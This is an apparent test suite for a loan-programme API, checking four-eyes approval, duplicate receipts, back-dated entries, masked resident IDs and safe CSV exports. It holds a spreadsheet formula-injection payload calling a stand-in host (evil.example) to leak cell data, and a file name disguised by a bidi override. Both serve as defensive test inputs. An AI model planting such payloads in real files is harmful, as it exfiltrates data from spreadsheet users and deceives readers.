@@ -1,0 +1,281 @@
+/**
+ * The controls an auditor and a data-protection officer check first (issue 11): four eyes,
+ * back-dated entries, unique paper receipts, exactly-once answers under concurrency, inert
+ * CSV exports, masked resident IDs with an audited reveal, refusals that never name another
+ * office's records, and the exceptions report that lists all of it.
+ *
+ * The programme settings are shared by every test file running at the same time, so these
+ * tests only read them (the defaults: four eyes on, back-dated after 7 days).
+ */
+import { randomUUID } from 'node:crypto';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { as, call, type Answer, type UserName } from '../support/api.ts';
+import { activeLoan, agreementInput, applicationInput, BOMA, daysAgo, openRound, readyApplication, residentId, roundInput, visitInput } from '../support/fixtures.ts';
+
+let roundId: string;
+
+beforeAll(async () => {
+  roundId = await openRound({ capitalFen: 1_000_000_000 });
+});
+
+const approveAs = (user: UserName, appId: string, decidedOn = daysAgo(30)) => as(user).post(`/applications/${appId}/decision`, { decision: 'approve', decidedOn, amountFen: 1_000_000 });
+const repay = (user: UserName, loanId: string, receiptNo: string, opts: { paidOn?: string; amountFen?: number; key?: string } = {}) =>
+  as(user).post(`/loans/${loanId}/repayments`, { paidOn: opts.paidOn ?? daysAgo(1), amountFen: opts.amountFen ?? 100_000, receiptNo }, { idempotencyKey: opts.key ?? `ctl-${randomUUID()}` });
+const exceptions = async (query: Record<string, string> = {}) => {
+  const res = await as('committee').get('/reports/exceptions', { query: { districtId: 'lhasa.chengguan', from: daysAgo(0), ...query } });
+  expect(res.status, JSON.stringify(res.body)).toBe(200);
+  return res.body.items as { kind: string; recordId: string; summary: string; data?: Record<string, unknown>; districtId: string }[];
+};
+
+describe('programme settings', () => {
+  it('four eyes is on by default and entries are back-dated after 7 days', async () => {
+    const res = await as('field').get('/settings');
+    expect(res.status).toBe(200);
+    expect(res.body).toMatchObject({ separationOfDuties: true, backDatedAfterDays: 7 });
+  });
+
+  it('only the committee changes them (403 for a district office); an empty change is refused (400)', async () => {
+    expect((await as('district').post('/settings', { separationOfDuties: false })).status).toBe(403);
+    expect((await as('committee').post('/settings', {})).status).toBe(400);
+    expect((await as('field').get('/settings')).body.separationOfDuties).toBe(true);
+  });
+});
+
+describe('four eyes (separation of duties)', () => {
+  it('the clerk who logged the two visits may not approve (409 separation_of_duties naming the visit); a second clerk approves', async () => {
+    const app = await as('township').post('/applications', applicationInput(roundId));
+    const id = app.body.id as string;
+    expect((await as('township').post(`/applications/${id}/notice`, { postedOn: daysAgo(55) })).status).toBe(200);
+    for (const visitedOn of [daysAgo(45), daysAgo(35)]) expect((await as('district').post(`/applications/${id}/visits`, visitInput({ visitedOn }))).status).toBe(201);
+
+    const own = await approveAs('district', id);
+    expect(own.status).toBe(409);
+    expect(own.body.error).toMatchObject({ code: 'separation_of_duties', field: 'visit' });
+    expect((await as('district').get(`/applications/${id}`)).body.status).toBe('submitted');
+
+    const other = await approveAs('district-2', id);
+    expect(other.status).toBe(200);
+    expect(other.body.status).toBe('approved');
+  });
+
+  it('names the submission, the notice and the screening as conflicting steps', async () => {
+    // submitted and noticed by the district clerk, visited by field staff
+    const app = await as('district').post('/applications', applicationInput(roundId));
+    const id = app.body.id as string;
+    await as('district').post(`/applications/${id}/notice`, { postedOn: daysAgo(55) });
+    for (const visitedOn of [daysAgo(45), daysAgo(35)]) await as('field').post(`/applications/${id}/visits`, visitInput({ visitedOn }));
+    expect((await approveAs('district', id)).body.error).toMatchObject({ code: 'separation_of_duties', field: 'submission' });
+
+    const screened = await readyApplication(roundId);
+    expect((await as('district-2').post(`/applications/${screened}/screening`)).status).toBe(200);
+    expect((await approveAs('district-2', screened)).body.error).toMatchObject({ code: 'separation_of_duties', field: 'screening' });
+    expect((await approveAs('district', screened)).status).toBe(200);
+  });
+
+  it('the approver may not record the disbursement (409 naming the approval); another officer may', async () => {
+    const appId = await readyApplication(roundId);
+    const loanId = (await approveAs('district', appId)).body.loanId as string;
+    expect((await as('district').post(`/loans/${loanId}/agreement`, agreementInput(daysAgo(29)))).status).toBe(200);
+    const payout = { disbursedOn: daysAgo(28), amountFen: 1_000_000, motherPresent: true, idChecked: true };
+    const own = await as('district').post(`/loans/${loanId}/disbursement`, payout);
+    expect(own.status).toBe(409);
+    expect(own.body.error).toMatchObject({ code: 'separation_of_duties', field: 'approval' });
+    expect((await as('district').get(`/loans/${loanId}`)).body.status).toBe('approved');
+    expect((await as('township').post(`/loans/${loanId}/disbursement`, payout)).status).toBe(200);
+  });
+});
+
+describe('paper receipts are recorded once per township', () => {
+  it('a second repayment with the same receipt number and a new Idempotency-Key is 409 naming the earlier one; the balance moves once', async () => {
+    const loanId = await activeLoan(roundId);
+    const receiptNo = `NO.${randomUUID().slice(0, 8)}`;
+    const first = await repay('township', loanId, receiptNo);
+    expect(first.status).toBe(201);
+    const again = await repay('district', loanId, receiptNo);
+    expect(again.status).toBe(409);
+    expect(again.body.error).toMatchObject({ code: 'duplicate_receipt', field: 'receiptNo' });
+    expect(again.body.error.message).toContain(first.body.id);
+    // the same number written differently on the form (case, spaces, full-width) is the same receipt
+    const variant = await repay('township', loanId, ` ${receiptNo.toLowerCase().replace('.', '．')} `);
+    expect(variant.status).toBe(409);
+
+    const loan = (await as('district').get(`/loans/${loanId}`)).body;
+    expect(loan.balanceFen).toBe(900_000);
+    expect(loan.repayments).toHaveLength(1);
+    const refused = (await exceptions({ kind: 'duplicate_receipt' })).filter((e) => e.recordId === loanId);
+    expect(refused).toHaveLength(2);
+    expect(refused[0]!.data).toMatchObject({ receiptNo: expect.any(String), earlierRepaymentId: first.body.id });
+  });
+
+  it('the same receipt number in another township is another receipt', async () => {
+    const receiptNo = `NO.${randomUUID().slice(0, 8)}`;
+    const here = await activeLoan(roundId);
+    const dlRound = await openRound(roundInput({ districtId: 'lhasa.duilongdeqing' }));
+    const there = await activeLoanIn(dlRound);
+    expect((await repay('township', here, receiptNo)).status).toBe(201);
+    expect((await repay('township-b', there, receiptNo)).status).toBe(201);
+  });
+
+  it('two repayments with one receipt number sent at the same moment: one is recorded, the other refused', async () => {
+    const loanId = await activeLoan(roundId);
+    const receiptNo = `NO.${randomUUID().slice(0, 8)}`;
+    const answers = await Promise.all([repay('township', loanId, receiptNo), repay('district', loanId, receiptNo)]);
+    expect(answers.map((a) => a.status).sort()).toEqual([201, 409]);
+    expect(answers.find((a) => a.status === 409)!.body.error.code).toBe('duplicate_receipt');
+    expect((await as('district').get(`/loans/${loanId}`)).body.balanceFen).toBe(900_000);
+  });
+});
+
+describe('exactly-once answers under concurrency', () => {
+  it('five identical repayments sent at once with one key all answer 2xx with the same repayment, four marked as replays', async () => {
+    const loanId = await activeLoan(roundId);
+    const key = `five-${loanId}`;
+    const receiptNo = `NO.${randomUUID().slice(0, 8)}`;
+    const answers: Answer[] = await Promise.all(Array.from({ length: 5 }, () => repay('township', loanId, receiptNo, { key, amountFen: 1_000_000 })));
+    expect(answers.map((a) => a.status), JSON.stringify(answers.map((a) => a.body))).toEqual([201, 201, 201, 201, 201]);
+    expect(new Set(answers.map((a) => a.body.id)).size).toBe(1);
+    expect(answers.filter((a) => a.headers['idempotent-replayed'] === 'true')).toHaveLength(4);
+    const loan = (await as('district').get(`/loans/${loanId}`)).body;
+    expect(loan).toMatchObject({ status: 'repaid', balanceFen: 0 });
+    expect(loan.repayments).toHaveLength(1);
+  });
+});
+
+describe('back-dated entries', () => {
+  it('a repayment dated 40 days ago is marked back-dated in the record and its history, and appears in the exceptions report', async () => {
+    const loanId = await oldLoan();
+    const late = await repay('township', loanId, `NO.${randomUUID().slice(0, 8)}`, { paidOn: daysAgo(40) });
+    expect(late.status).toBe(201);
+    expect(late.body).toMatchObject({ paidOn: daysAgo(40), recordedAt: expect.any(String), backDated: { daysLate: 40 } });
+    const onTime = await repay('township', loanId, `NO.${randomUUID().slice(0, 8)}`, { paidOn: daysAgo(2) });
+    expect(onTime.body.backDated).toBeUndefined();
+
+    const loan = (await as('district').get(`/loans/${loanId}`)).body;
+    const events = loan.history.filter((e: { action: string }) => e.action === 'repayment');
+    expect(events.map((e: { data: { backDated?: boolean } }) => e.data.backDated ?? false).sort()).toEqual([false, true]);
+    const flagged = (await exceptions({ kind: 'back_dated' })).filter((e) => e.recordId === loanId);
+    expect(flagged.map((e) => e.data?.what)).toContain('repayment');
+    expect(flagged.find((e) => e.data?.what === 'repayment')!.data).toMatchObject({ paperDate: daysAgo(40), daysLate: 40 });
+  });
+
+  it('the exceptions report is the committee’s, as JSON and as CSV', async () => {
+    expect((await as('district').get('/reports/exceptions')).status).toBe(403);
+    const csv = await as('committee').get('/reports/exceptions', { query: { format: 'csv' } });
+    expect(csv.status).toBe(200);
+    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
+    expect(csv.body).toContain('补录');
+  });
+});
+
+describe('resident ID numbers (PIPL)', () => {
+  it('the committee and field staff see them masked, township and district in full; the full number is shown only through an audited reveal', async () => {
+    const appId = await readyApplication(roundId);
+    const full = (await as('township').get(`/applications/${appId}`)).body.mother.residentId as string;
+    expect(full).toMatch(/^\d{17}[\dX]$/);
+    expect((await as('district').get(`/applications/${appId}`)).body.mother.residentId).toBe(full);
+    for (const user of ['committee', 'field'] as const) expect((await as(user).get(`/applications/${appId}`)).body.mother.residentId).toBe(`${full.slice(0, 4)}**********${full.slice(14)}`);
+    const loanId = (await approveAs('district-2', appId)).body.loanId as string;
+    expect((await as('committee').get(`/loans/${loanId}`)).body.mother.residentId).toContain('*');
+
+    const shown = await as('committee').post(`/applications/${appId}/resident-id`, { reason: '核对重复申请' });
+    expect(shown.status).toBe(200);
+    expect(shown.body.residentId).toBe(full);
+    const history = (await as('district').get(`/applications/${appId}`)).body.history as { action: string; actor: { username: string } }[];
+    expect(history.filter((e) => e.action === 'resident_id_revealed').map((e) => e.actor.username)).toEqual(['committee']);
+    expect((await exceptions({ kind: 'resident_id_revealed' })).map((e) => e.recordId)).toContain(appId);
+  });
+
+  it('a second application in another district is refused without naming the other district’s record, and reported in both', async () => {
+    const id = residentId();
+    const first = await as('township').post('/applications', applicationInput(roundId, { mother: { name: '卓玛', residentId: id } }));
+    expect(first.status).toBe(201);
+    const dlRound = await openRound(roundInput({ districtId: 'lhasa.duilongdeqing' }));
+    const second = await as('township-b').post('/applications', applicationInput(dlRound, { villageId: BOMA, mother: { name: '卓玛', residentId: id } }));
+    expect(second.status).toBe(409);
+    expect(second.body.error.code).toBe('mother_has_open_case');
+    expect(JSON.stringify(second.body)).not.toContain(first.body.id);
+    // the same district office sees its own record named
+    const again = await as('township').post('/applications', applicationInput(roundId, { mother: { name: '卓玛', residentId: id } }));
+    expect(again.body.error.message).toContain(first.body.id);
+    expect((await exceptions({ kind: 'cross_district_application' })).map((e) => e.recordId)).toContain(first.body.id);
+    const there = await as('committee').get('/reports/exceptions', { query: { districtId: 'lhasa.duilongdeqing', kind: 'cross_district_application', from: daysAgo(0) } });
+    expect(JSON.stringify(there.body.items)).not.toContain(first.body.id);
+    expect(there.body.items.length).toBeGreaterThan(0);
+  });
+});
+
+describe('CSV exports are inert', () => {
+  /** Cells of a CSV file (quoted fields with doubled quotes, CRLF lines). */
+  function cells(csv: string): string[] {
+    const out: string[] = [];
+    const re = /(?:^|,)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g;
+    for (const line of csv.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean)) {
+      for (const m of line.matchAll(re)) out.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : (m[2] ?? ''));
+    }
+    return out;
+  }
+  const dangerous = (cell: string) => /^[=+@\t\r]/.test(cell) || /^-[^\d]/.test(cell);
+
+  it('an office and a round named like formulas come out as text, numbers stay numbers', async () => {
+    const evil = `=HYPERLINK("http://evil.example/?x="&A1,"点击")`;
+    const township = `lhasa.chengguan.f${randomUUID().slice(0, 6)}`;
+    expect((await as('committee').post('/offices', { id: township, name: evil })).status).toBe(201);
+    const round = await openRound({ name: `+SUM(1,2) ${randomUUID().slice(0, 4)}` });
+    await activeLoan(round);
+
+    const remittances = await as('committee').get('/reports/remittances', { query: { districtId: 'lhasa.chengguan', format: 'csv' } });
+    const byRound = await as('committee').get('/reports/repayment', { query: { districtId: 'lhasa.chengguan', groupBy: 'round', format: 'csv' } });
+    const all = [...cells(remittances.body), ...cells(byRound.body)];
+    expect(all).toContain(`'${evil}`);
+    expect(all.some((c) => c.startsWith("'+SUM(1,2)"))).toBe(true);
+    expect(all.filter(dangerous)).toEqual([]);
+    expect(all.some((c) => /^\d+\.\d\d$/.test(c))).toBe(true);
+  });
+});
+
+/** A loan disbursed 58 days ago (its application submitted 100 days ago), so a repayment may be dated 40 days back. */
+async function oldLoan(): Promise<string> {
+  const app = await as('township').post('/applications', applicationInput(roundId, { submittedOn: daysAgo(100) }));
+  const id = app.body.id as string;
+  await as('township').post(`/applications/${id}/notice`, { postedOn: daysAgo(95) });
+  for (const visitedOn of [daysAgo(90), daysAgo(85)]) await as('field').post(`/applications/${id}/visits`, visitInput({ visitedOn }));
+  const loanId = (await approveAs('district', id, daysAgo(60))).body.loanId as string;
+  await as('district').post(`/loans/${loanId}/agreement`, agreementInput(daysAgo(59)));
+  const paid = await as('district-2').post(`/loans/${loanId}/disbursement`, { disbursedOn: daysAgo(58), amountFen: 1_000_000, motherPresent: true, idChecked: true });
+  expect(paid.status, JSON.stringify(paid.body)).toBe(200);
+  return loanId;
+}
+
+/** An active loan in the second district (township-b submits, a field officer of that district visits, district-b approves, township-b pays out). */
+async function activeLoanIn(dlRound: string): Promise<string> {
+  const app = await as('township-b').post('/applications', applicationInput(dlRound, { villageId: BOMA }));
+  const id = app.body.id as string;
+  await as('township-b').post(`/applications/${id}/notice`, { postedOn: daysAgo(55) });
+  const { tokens } = await import('../support/api.ts');
+  const fieldB = await tokens.sign({ username: 'field-b', role: 'field', officeId: 'lhasa.duilongdeqing' });
+  for (const visitedOn of [daysAgo(45), daysAgo(35)]) await call(null, 'POST', `/applications/${id}/visits`, visitInput({ visitedOn }), { token: fieldB });
+  const loanId = (await approveAs('district-b', id)).body.loanId as string;
+  await as('district-b').post(`/loans/${loanId}/agreement`, agreementInput(daysAgo(29)));
+  const paid = await as('township-b').post(`/loans/${loanId}/disbursement`, { disbursedOn: daysAgo(28), amountFen: 1_000_000, motherPresent: true, idChecked: true });
+  expect(paid.status, JSON.stringify(paid.body)).toBe(200);
+  return loanId;
+}
+
+describe('text that is not what a reader sees', () => {
+  it('a body that is not valid UTF-8 is refused (400 naming the body), nothing is stored', async () => {
+    const body = Buffer.concat([Buffer.from('{"postedOn":"2026-01-01","place":"'), Buffer.from([0xc3, 0x28]), Buffer.from('"}')]);
+    const appId = (await as('township').post('/applications', applicationInput(roundId))).body.id as string;
+    const res = await call('township', 'POST', `/applications/${appId}/notice`, undefined, { rawBytes: body });
+    expect(res.status).toBe(400);
+    expect(res.body.error).toMatchObject({ code: 'invalid_encoding', field: 'body' });
+    expect((await as('district').get(`/applications/${appId}`)).body.notice).toBeUndefined();
+  });
+
+  it('a mother’s name with a bidi override, or a zero-width space, or a replaced byte is refused naming the field', async () => {
+    for (const name of ['卓玛\u202Egnp.exe', '卓\u200B玛', '卓\uFFFD玛']) {
+      const res = await as('township').post('/applications', applicationInput(roundId, { mother: { name, residentId: residentId() } }));
+      expect(res.status, name).toBe(400);
+      expect(res.body.error.field, name).toBe('mother.name');
+    }
+  });
+});
